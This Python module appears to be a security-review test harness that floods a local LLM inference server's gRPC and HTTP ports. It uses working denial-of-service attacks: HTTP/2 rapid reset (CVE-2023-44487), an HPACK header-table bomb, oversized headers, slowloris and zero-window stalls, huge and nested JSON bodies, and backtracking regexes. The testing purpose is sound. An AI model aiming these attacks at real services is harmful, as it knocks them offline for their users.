"""Attacks on the public port, each for SECONDS. Their names are those of a security review; C1 are the known
defects of gRPC 1.51, and W are attacks over HTTP."""

import contextlib
import http.client
import itertools
import json
import signal
import socket
import threading
import time

import http2_client as http2

SECONDS = 6  # How long an attack lasts.
LONG_ANSWER = 1900  # Tokens. The models' context has 2048.
TOKEN_A = 72  # The text "a" in the demo models' vocabulary.


def repeat(attack, threads=1):
    """Runs `attack` again and again in threads until the time is over. It gets a function that tells
    whether the time is over."""
    end = time.monotonic() + SECONDS

    def loop():
        while time.monotonic() < end:
            try:
                attack(lambda: time.monotonic() >= end)
            except (OSError, http2.Closed):
                pass  # The server refused the connection, as it should.
            time.sleep(0.02)  # Leaves some time of the cores to the services.

    running = [threading.Thread(target=loop) for _ in range(threads)]
    for thread in running:
        thread.start()
    for thread in running:
        thread.join()


def read_all(client, stream):
    for _ in client.messages(stream):
        pass


def ask(port, is_over, **request):
    """One request, read to its end or until the time is over."""
    with http2.Http2Client(port) as client:
        for _ in client.messages(client.call(http2.generate_request(**request))):
            if is_over():
                return


def long_headers(port):
    """CVE-2023-1428: an invalid value of a header that gRPC knows, then more headers than allowed."""

    def attack(_):
        for bad in (("te", "x"), (":scheme", "x"), ("grpclb_client_stats", "x")):
            for padding in (9, 18, 80):  # KiB
                filler = b"".join(http2.literal(f"x-{i}", "v" * 1000) for i in range(padding))
                with http2.Http2Client(port, tls=True, timeout=1) as client:
                    stream = client.begin(extra=http2.literal(*bad) + filler)
                    with contextlib.suppress(http2.Closed, OSError):
                        while not http2.ends(client.read(), stream):
                            pass

    repeat(attack)


def header_table(port):
    """CVE-2023-33953: references to a long entry of the header table, each of one byte."""

    def attack(is_over):
        with http2.Http2Client(port, tls=True, timeout=1) as client:
            while not is_over():
                entry = http2.literal("x-bomb", "v" * 3900, index=True)
                client.begin(extra=entry + b"\xbe" * 14000)

    repeat(attack)


def rapid_reset(port):
    """CVE-2023-44487: calls that are reset at once."""

    def attack(is_over):
        with http2.Http2Client(port, tls=True, timeout=1) as client:
            while not is_over():
                for _ in range(50):
                    client.reset(client.begin())

    repeat(attack)


def idle_connections(port, count):
    """Connections that say nothing, until the end of the attack."""
    with contextlib.ExitStack() as stack:
        for _ in range(count):
            with contextlib.suppress(OSError):
                stack.enter_context(socket.create_connection(("127.0.0.1", port), timeout=1))
        time.sleep(SECONDS)


def huge_prompts(port):
    """C2: eight prompts of 4 MB at a time."""
    message = http2.generate_request(text="7" * 4_000_000)

    def attack(_):
        with http2.Http2Client(port) as client:
            read_all(client, client.call(message))

    repeat(attack, threads=8)


def wide_beam(port):
    """C3"""
    repeat(lambda is_over: ask(port, is_over, ids=range(200, 230), max_tokens=60, policy="beam:4096x4096"), threads=2)


def silent_readers(port):
    """H1: calls whose client opens no window."""
    message = http2.generate_request(ids=[5, 6, 7], max_tokens=1)

    def attack(is_over):
        with http2.Http2Client(port, window=0, timeout=1) as client:
            for _ in range(100):
                client.call(message)
            while not is_over():
                with contextlib.suppress(TimeoutError):
                    client.read()

    repeat(attack, threads=4)


def canceled_requests(port):
    """H2: a queue of requests that were canceled, behind long answers."""
    message = http2.generate_request(ids=range(300, 320), max_tokens=LONG_ANSWER)

    def cancel(is_over):
        with http2.Http2Client(port, timeout=1) as client:
            while not is_over():
                streams = [client.call(message) for _ in range(50)]
                time.sleep(0.05)
                for stream in streams:
                    client.reset(stream)

    canceling = threading.Thread(target=repeat, args=(cancel,))
    canceling.start()
    repeat(lambda is_over: ask(port, is_over, ids=range(300, 320), max_tokens=LONG_ANSWER), threads=16)
    canceling.join()


def long_prompts(port):
    """H6: prompts that nearly fill the context, without common beginnings."""
    first = iter(range(10, 4000))

    def attack(is_over):
        own = next(first)
        ids = [own] + [(own * 37 + i * 11) % 4000 + 10 for i in range(2000)]
        ask(port, is_over, ids=ids, max_tokens=8)

    repeat(attack, threads=15)


def large_trees(port):
    """H7: draft trees as large as the client likes."""
    policies = itertools.cycle(("fixed:512", "chain:512"))
    repeat(lambda is_over: ask(port, is_over, ids=range(400, 420), max_tokens=400, policy=next(policies)), threads=2)


def hung_drafter(services):
    """H8"""
    process = services.processes["drafter"]
    process.send_signal(signal.SIGSTOP)
    time.sleep(SECONDS)
    process.send_signal(signal.SIGCONT)


def stop_strings(port):
    """H11: every token of the answer continues a nearly whole match of a stop string."""
    stops = itertools.cycle([["a" * 1023 + chr(66 + i) for i in range(16)], ["a" * 240_000 + "b"] * 16])
    repeat(
        lambda is_over: ask(port, is_over, ids=[TOKEN_A] * 10, max_tokens=LONG_ANSWER, stop=next(stops), bias={TOKEN_A: 100})
    )


def slow_readers(port):
    """M6: clients that read their answers bit by bit."""
    message = http2.generate_request(ids=range(500, 520), max_tokens=LONG_ANSWER)

    def attack(is_over):
        with http2.Http2Client(port, window=512) as client:
            streams = [client.call(message) for _ in range(16)]
            while not is_over():
                for stream in streams:
                    client.open_window(stream, 32)
                client.open_window(0, 32 * len(streams))
                time.sleep(0.2)

    repeat(attack, threads=2)


def post(port, body):
    """One request to the OpenAI-compatible API, read to its end."""
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=5)
    with contextlib.closing(connection), contextlib.suppress(http.client.HTTPException):
        connection.request("POST", "/v1/completions", body, {"Content-Type": "application/json"})
        connection.getresponse().read()


def json_bodies(port):
    """W: bodies of 3 MB whose values take many times their bytes, or that are deep."""
    bodies = itertools.cycle(
        ['{"metadata": [' + "[]," * 1_000_000 + "[]]}", "[" * 3_000_000, json.dumps({"prompt": "7" * 3_000_000})]
    )
    repeat(lambda _: post(port, next(bodies)), threads=8)


def grammars(port):
    """W: constraints that take long to compile, or whose masks take long."""
    regexes = [
        "(((((a{1,99}){1,99}){1,99}){1,99}){1,99})",
        "(x+x+)+y" * 200,
        r"(\w|\d|[^z]){0,2000}" * 8,
        "|".join(f"{i}[a-z]{{0,40}}" for i in range(3000)),
    ]
    bodies = itertools.cycle(
        [json.dumps({"prompt": "a", "max_tokens": 200, "structured_outputs": {"regex": r}}) for r in regexes]
    )
    repeat(lambda _: post(port, next(bodies)), threads=8)


def silent_http_clients(port, count):
    """W: connections that begin a request and send no more."""
    with contextlib.ExitStack() as stack:
        for _ in range(count):
            with contextlib.suppress(OSError):
                client = stack.enter_context(socket.create_connection(("127.0.0.1", port), timeout=1))
                client.sendall(b"POST /v1/completions HTTP/1.1\r\nHost: localhost\r\nContent-Length: 9\r\n\r\n")
        time.sleep(SECONDS)
